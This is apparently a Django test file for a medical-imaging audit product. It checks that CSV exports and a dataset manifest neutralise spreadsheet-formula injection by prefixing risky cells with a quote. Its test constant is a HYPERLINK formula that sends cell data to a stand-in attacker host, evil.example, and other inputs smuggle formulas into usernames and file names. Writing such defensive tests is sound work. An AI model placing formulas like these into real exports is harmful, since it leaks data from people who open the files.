"""No CSV the product writes can carry a live spreadsheet formula (OWASP, CSV injection):
a cell starting with =, +, -, @, tab or carriage return is prefixed with a quote."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.test import Client
from django.urls import reverse

from audit import ledger
from audit.csv_safety import csv_cell
from audit.ledger import Actor
from datasets.manifest import MANIFEST_CSV, verify_manifest, write_manifest
from datasets.signing import published_keys
from tests.clients import signed_in as client_for
from tests.consent.factories import make_patient

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize(("value", "written"), [
    (FORMULA, "'" + FORMULA),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("Acme AI Lab", "Acme AI Lab"),
    ("", ""),
    (42, 42),
    (-7, -7),  # a number is written as a number, not a formula
    (None, None),
])
def test_a_cell_is_neutralised_only_when_it_could_run(value, written):
    assert csv_cell(value) == written


def rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode())))


def test_a_failed_sign_in_with_a_formula_for_a_name_is_inert_in_the_events_export(
        auditor, db):
    Client().post(reverse("login"), {"username": FORMULA, "password": "wrong"})
    response = client_for(auditor).get(reverse("audit-export"), {
        "since": "2000-01-01 00:00", "until": "2100-01-01 00:00", "format": "csv"})
    table = rows(b"".join(response.streaming_content))
    actor = table[0].index("actor_label")
    failed = [row for row in table[1:] if row[table[0].index("action")] == "login.failed"]
    assert [row[actor] for row in failed] == ["'" + FORMULA]


def test_a_recipient_with_a_formula_is_inert_in_the_disclosures_export(auditor, db):
    alice = make_patient("MRN-F")
    ledger.record(action="export.included", actor=Actor(label="stella"),
                  patient_ref=alice.pk, study_uid="1.2.9", dataset_ref="3",
                  purpose_code="ai-training", details={"recipient": FORMULA},
                  occurred_at=datetime(2026, 3, 2, tzinfo=UTC))
    response = client_for(auditor).post(reverse("audit-disclosures"),
                                        {"mrn": "MRN-F", "format": "csv"})
    table = rows(b"".join(response.streaming_content))
    assert table[1][1] == "'" + FORMULA


def test_a_file_named_like_a_formula_is_inert_in_the_manifest(tmp_path, db):
    export = tmp_path / "v1"
    export.mkdir()
    (export / "=1+1.dcm").write_bytes(b"x")
    (export / "@cmd.dcm").write_bytes(b"y")
    (export / "plain.dcm").write_bytes(b"z")
    write_manifest(export, {"dataset": "test"})
    table = rows((export / MANIFEST_CSV).read_bytes())
    assert [row[0] for row in table[1:]] == ["'=1+1.dcm", "'@cmd.dcm", "plain.dcm"]
    assert verify_manifest(export, published_keys()) == []  # the JSON keeps the real names
